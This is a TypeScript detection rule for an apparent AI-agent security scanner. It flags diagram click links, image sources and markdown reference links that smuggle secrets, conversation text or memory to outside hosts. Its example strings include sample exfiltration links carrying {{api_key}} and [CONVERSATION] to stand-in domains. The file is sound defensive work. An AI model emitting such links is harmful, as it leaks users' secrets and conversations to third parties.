import { addressClass, scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

const PLACE =
  /[?&=][^\s]{0,120}?(?:\{\{?\s?\w{0,20}(?:secret|token|key|password|cookie|history|conversation|summary|context|prompt|message|data|email|env|memory|content)\w{0,20}\s?\}?\}|\[[A-Z][A-Z _-]{3,40}\]|<[A-Z][A-Z _-]{3,40}>)/i;

export default defineRule({
  id: "EXFIL_104",
  title: "Diagram or reference link that carries data",
  why: "Diagrams draw links and pictures from addresses, and reference links hide theirs at the end of the text.",
  fix: "Render diagrams without links, or from your own hosts only.",
  severity: "high",
  category: "exfiltration",
  lane: "block",
  maps: { asi: ["ASI02"], mcp: ["MCP06"], cwe: ["CWE-201"] },
  reads: ["message", "prompt", "tool_argument", "tool_result", "resource", "document", "tool_description"],
  keywords: ["click ", "]: http", "]: <http", "<img", "img:"],
  match: scan(
    /(?:\bclick\s{1,3}\w{1,40}\s{1,3}(?:href\s{1,3}|call\s{1,3})?|\bA?\[["']?<img[^\]\n]{0,40}?src=|^\s{0,4}\[[^\]\n]{1,60}\]:\s{1,4}|\n\s{0,4}\[[^\]\n]{1,60}\]:\s{1,4}|\bimg:\s{0,2})["'<]{0,2}(https?:\/\/[^\s"'<>)]{3,400})/i,
    (match) =>
      PLACE.test(match[1] ?? "") &&
      /^(?:name|public|documentation)$/.test(addressClass(/^https?:\/\/([^\/?#:]+)/i.exec(match[1] ?? "")?.[1] ?? "")),
  ),
  examples: {
    flags: [
      { text: 'graph TD; A[Done]; click A href "https://x.example.net/?d={{api_key}}"', kind: "tool_result" },
      { text: "See ![status][s].\n\n[s]: https://c.example.org/p.png?q=[CONVERSATION]", kind: "document" },
      "A nice chart:\n[1]: https://t.example/i?data={secret_data}",
    ],
    passes: [
      { text: 'click A href "https://docs.example.com/a"', kind: "document" },
      { text: "See [the docs][1].\n\n[1]: https://docs.example.com/page?id=3", kind: "document" },
      { text: "[1]: https://api.example.com/users/{id}", kind: "document" },
    ],
  },
});
